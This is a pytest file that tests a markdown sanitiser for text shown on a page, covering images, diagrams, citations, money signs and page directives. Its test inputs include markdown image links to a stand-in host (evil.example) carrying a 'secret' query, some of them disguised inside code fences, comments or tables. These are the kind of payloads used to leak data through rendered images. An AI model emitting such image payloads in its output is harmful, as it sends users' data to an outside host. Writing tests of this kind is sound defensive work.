"""Text of models and documents on a page: nothing is fetched, nothing is run, nothing is lost."""

import pytest

from pages.ui.markdown import label, safe


@pytest.mark.parametrize(
    "hostile",
    [
        "![leak](https://evil.example/?q=secret)",
        "![leak][pic]\n\n[pic]: https://evil.example/x.png",
        "[pic]: https://evil.example/x.png\n![pic]",
    ],
)
def test_an_image_is_named_and_never_fetched(hostile: str) -> None:
    shown = safe(hostile)
    assert "![" not in shown
    assert "evil.example" not in shown
    assert "(image: " in shown


@pytest.mark.parametrize(
    "disguise",
    [
        "look ~~~ ![x](https://evil.example)",
        "`` ` ``![x](https://evil.example)``",
        "`a\nb` ![x](https://evil.example) `c`",
        "| `a | ![x](https://evil.example) | b` |\n|-|-|-|",
        "- ~~~\n  ~~~\n![x](https://evil.example)",
        "<!--\n```\n-->\n![x](https://evil.example)",
        ":::note\n```\n:::\n![x](https://evil.example)",
        "$$\n```\n$$\n![x](https://evil.example)",
        "```\r```\r![x](https://evil.example)",
        "``` a ``` ![x](https://evil.example)",
        "````\n```\n````\n![x](https://evil.example)",
    ],
)
def test_an_image_between_the_signs_of_code_is_none_where_it_may_be_drawn(disguise: str) -> None:
    assert "![" not in safe(disguise)


@pytest.mark.parametrize("info", ["mermaid", " Mermaid x", "mer&#109;aid", "-language-mermaid"])
@pytest.mark.parametrize("before", ["", "> ", "1. "])
def test_a_diagram_is_shown_as_its_text_since_it_has_images_of_its_own(
    before: str, info: str
) -> None:
    diagram = "flowchart TD\n A --> B"
    assert safe(f"{before}```{info}\n{diagram}\n```") == f"{before}```text\n{diagram}\n```"
    assert safe(f"~~~{info}\n{diagram}") == f"~~~text\n{diagram}"


def test_code_in_a_list_and_a_macro_in_a_block_stay_as_they_were() -> None:
    listed = "1. Say:\n   ```bash\n   echo $HOME :red[x]\n   ```"
    assert safe(listed) == listed
    macro = "So:\n\n```rust\nlet a = vec![1, 2];\n```\n\nand `b`."
    assert safe(macro) == macro


def test_money_is_not_taken_for_a_formula() -> None:
    assert safe("It costs $5 or $6.") == r"It costs \$5 or \$6."


def test_a_citation_becomes_a_badge_only_when_there_is_such_a_source() -> None:
    assert safe("Yes [1]. No [9].", 2) == r"Yes :primary-badge[1]. No \[9\]."
    assert safe("Both [1, 2].", 2) == "Both :primary-badge[1] :primary-badge[2]."
    assert safe("So dark![1]", 1) == "So dark!\u2060:primary-badge[1]"
    assert safe("a [1](https://example.org)", 2) == "a [1](https://example.org)"


def test_code_stays_as_it_was_written() -> None:
    code = "```python\nprint('$1 ![x](y) [1]')\n```"
    assert safe(code, 1) == code
    assert safe("use `$HOME`") == "use `$HOME`"


def test_directives_of_the_page_are_only_text() -> None:
    assert safe(":red[danger] :material/bolt:") == r"\:red[danger] \:material/bolt:"
    assert safe("at 10:30, see: this") == "at 10:30, see: this"


def test_a_title_shows_its_signs() -> None:
    assert label("![x](http://evil)\n*a*") == r"\!\[x\]\(http\://evil\) \*a\*"
